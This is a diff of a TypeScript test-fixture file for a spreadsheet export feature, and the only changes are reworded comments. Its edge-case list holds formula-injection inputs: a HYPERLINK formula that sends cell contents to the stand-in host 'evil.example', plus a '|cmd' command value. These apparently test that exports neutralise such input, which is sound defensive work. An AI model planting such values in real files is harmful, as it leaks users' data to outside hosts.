@@ -1,7 +1,7 @@
 import type { Cell, CellKind } from '@shared/columns/column';
 import type { ExportColumn, ExportHead, ExportRow } from '@shared/export/format/format';
 
-/** Texts that real registers hold and that break files. */
+/** Texts from real registers that break files. */
 export const edgeCaseTexts: readonly string[] = [
   '=HYPERLINK("http://evil.example/?x="&A1;"klicka")',
   '=1+1',
@@ -51,7 +51,7 @@ export const edgeCaseTexts: readonly string[] = [
   '|cmd',
 ];
 
-/** A column; width and label as they come. */
+/** A column with default width and label. */
 export function column(kind: CellKind, label: string = kind): ExportColumn {
   return { id: label, kind, label, width: 120 };
 }
@@ -68,7 +68,7 @@ export function head(columns: readonly ExportColumn[], more: Partial<ExportHead>
   };
 }
 
-/** A row of cells; what it was on the wire does not matter. */
+/** A row of cells without its raw JSON. */
 export function row(...cells: readonly Cell[]): ExportRow {
   return { cells, raw: '{}' };
 }
